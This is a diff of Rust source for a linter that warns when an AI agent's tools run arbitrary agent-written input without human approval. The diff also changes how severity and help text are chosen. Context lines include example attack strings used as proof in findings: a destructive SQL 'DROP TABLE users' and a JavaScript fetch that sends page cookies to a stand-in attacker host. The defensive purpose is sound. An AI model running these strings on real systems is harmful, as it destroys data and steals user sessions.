@@ -1,7 +1,9 @@
 use crate::{
     diagnostic::{Applicability, Class, Code, Level},
     lint::{
-        Check, Confidence, Findings, Persona, Rule, Subject, call,
+        Check, Confidence, Findings, Persona, Rule, Subject,
+        advice::Advice,
+        call,
         capability::{Traits, code_param, sql_param},
     },
     syntax::literal::{write_name, write_path},
@@ -37,8 +39,13 @@ fn check(policy: &Subject<'_>, findings: &mut Findings) {
         let names: Vec<String> = tools.iter().map(|name| write_name(name)).collect();
         let (runs, its) = if tools.len() == 1 { ("runs", "its") } else { ("run", "their") };
         let message = format!(
-            "{} {runs} whatever the agent writes, with no condition, no approval and no limit of {its} own",
-            quoted_list(&tools, 5)
+            "{} {runs} whatever the agent writes, with {}",
+            quoted_list(&tools, 5),
+            if policy.can_narrow() {
+                format!("no condition, no approval and no limit of {its} own")
+            } else {
+                "no approval".to_owned()
+            }
         );
         let what = if sql_param(tool).is_some() {
             "DROP TABLE users"
@@ -48,13 +55,18 @@ fn check(policy: &Subject<'_>, findings: &mut Findings) {
             "fetch('https://evil.example/?' + document.cookie)"
         };
         let proof = call::with(tool, &param.name, call::as_taken(param, what));
+        // in a list of exceptions from asking, a name is somebody's decision
+        let decided = policy.origin().asks_about_the_rest() && policy.is_named(first);
+        let level = if decided { Level::Warning } else { Level::Error };
         let path = write_path(std::slice::from_ref(&param.name));
         let ask = format!("ask {}", names.join(", "));
         findings.add(
             findings
-                .finding(Level::Error, span, message)
+                .finding(level, span, message)
                 .proof(format!("{proof} is allowed"))
-                .help(format!("have a person approve each call with `{ask}`, or narrow it: `require {path} in […]`"))
+                .help(policy.advise(Advice::Gate(&ids), || {
+                    format!("have a person approve each call with `{ask}`, or narrow it: `require {path} in […]`")
+                }))
                 .fix(Applicability::Unsafe, format!("add `{ask}`"), span.at_end(), format!("\n  {ask}")),
         );
     }
